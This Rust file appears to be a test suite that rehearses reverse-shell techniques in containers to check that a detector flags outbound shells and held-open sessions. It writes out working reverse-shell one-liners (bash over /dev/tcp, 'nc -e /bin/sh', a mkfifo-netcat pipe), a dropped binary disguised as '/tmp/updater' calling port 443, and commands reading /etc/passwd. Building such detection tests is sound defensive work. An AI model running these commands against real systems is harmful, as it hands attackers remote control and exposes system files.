//! Shells for somebody at the other end of a connection.

use super::props::ACT;
use super::servers::Service;
use super::stage::Stage;
use super::{KeyNeeds, KeyRehearsal, RehearsalError, run};
use std::time::Duration;

const OUTBOUND: &str = "net.reverse_shell_outbound";
const SESSION: &str = "proc.reverse_shell";

/// Whoever waits for the shell: stands for an address far away.
const ATTACKER: &str = "203.0.113.9";
const PORT: u16 = 4444;
/// What is typed there.
const TYPED: &str = "id\nuname -a\ncat /etc/passwd\n";
/// A look around.
const SHORT: Duration = Duration::from_millis(800);
/// Longer than the five seconds after which a shell with a remote end counts as a session.
const LONG: Duration = Duration::from_millis(6500);

const BASH: &str = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'";
const BASH_DESCRIPTOR: &str =
    "bash -c 'exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196'";
const NETCAT: &str = "nc 203.0.113.9 4444 -e /bin/sh";
const FIFO: &str =
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f";

pub(super) const REVERSE_SHELL_OUTBOUND: &[KeyRehearsal] = &[
    run(
        OUTBOUND,
        "outbound-bash-tcp",
        "bash with its streams on /dev/tcp",
        KeyNeeds::NETWORK_BASH,
        |stage| script(stage, BASH, SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-bash-descriptor",
        "a shell below bash, on a numbered descriptor of /dev/tcp",
        KeyNeeds::NETWORK_BASH,
        |stage| script(stage, BASH_DESCRIPTOR, SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-nc-e",
        "netcat becomes a shell",
        KeyNeeds::NETWORK,
        |stage| script(stage, NETCAT, SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-mkfifo",
        "a shell between a named pipe and netcat",
        KeyNeeds::NETWORK,
        |stage| script(stage, FIFO, SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-dup",
        "a program connects, copies the socket onto its streams, and becomes a shell, as python and perl do",
        KeyNeeds::NETWORK,
        |stage| program(stage, "dup", SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-late-connect",
        "the socket is copied onto the streams first and connected then",
        KeyNeeds::NETWORK,
        |stage| program(stage, "late", SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-pipes",
        "a shell on pipes that a program carries to a socket",
        KeyNeeds::NETWORK,
        |stage| program(stage, "pipe", SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-pty",
        "a shell on a terminal that a program carries to a socket, as socat does",
        KeyNeeds::NETWORK,
        |stage| program(stage, "pty", SHORT),
    ),
    run(
        OUTBOUND,
        "outbound-dropped",
        "the same by a dropped program with a harmless name, to port 443",
        KeyNeeds::NETWORK,
        dropped,
    ),
];

pub(super) const REVERSE_SHELL: &[KeyRehearsal] = &[
    run(
        SESSION,
        "session-bash-tcp",
        "bash on /dev/tcp, held open",
        KeyNeeds::NETWORK_BASH,
        |stage| script(stage, BASH, LONG),
    ),
    run(
        SESSION,
        "session-nc-e",
        "a shell below netcat, held open",
        KeyNeeds::NETWORK,
        |stage| script(stage, NETCAT, LONG),
    ),
    run(
        SESSION,
        "session-mkfifo",
        "a shell between a named pipe and netcat, held open",
        KeyNeeds::NETWORK,
        |stage| script(stage, FIFO, LONG),
    ),
    run(
        SESSION,
        "session-dup",
        "a shell on a copied socket, held open",
        KeyNeeds::NETWORK,
        |stage| program(stage, "dup", LONG),
    ),
    run(
        SESSION,
        "session-pty",
        "a shell on a terminal that is carried to a socket, held open",
        KeyNeeds::NETWORK,
        |stage| program(stage, "pty", LONG),
    ),
];

fn script(stage: &mut Stage, script: &str, stays: Duration) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(PORT, Service::Session(TYPED, stays))?;
    stage.act_shell(&container, script)?;
    peer.expect_shell()
}

fn program(stage: &mut Stage, how: &str, stays: Duration) -> Result<(), RehearsalError> {
    script(
        stage,
        &format!("{ACT} shell {how} {ATTACKER} {PORT}"),
        stays,
    )
}

fn dropped(stage: &mut Stage) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(443, Service::Session(TYPED, SHORT))?;
    stage.prepare(&container, "cp /payload/act /tmp/updater")?;
    stage.act_shell(&container, "/tmp/updater shell dup 203.0.113.9 443")?;
    peer.expect_shell()
}
